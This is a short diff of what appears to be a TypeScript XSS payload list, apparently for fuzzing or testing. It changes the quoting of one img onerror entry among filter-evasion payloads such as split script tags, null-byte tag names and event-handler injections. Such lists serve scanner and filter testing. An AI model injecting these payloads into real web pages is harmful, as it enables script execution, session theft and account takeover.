@@ -93,7 +93,7 @@ const BASE: string[] = [
   `<![CDATA[<script>${P}</script>]]>`,
   `<scr<script>ipt>${P}</scr</script>ipt>`,
   `<scri%00pt>${P}</scri%00pt>`,
-  `<img src="x` + '`' + `" onerror="${P}">`,
+  `<img src="x\`" onerror="${P}">`,
   `<xss id=x tabindex=1 onfocus=${P}></xss>`,
   `<xmp><img src=x onerror=${P}></xmp>`,
   `<title><img src=x onerror=${P}></title>`,
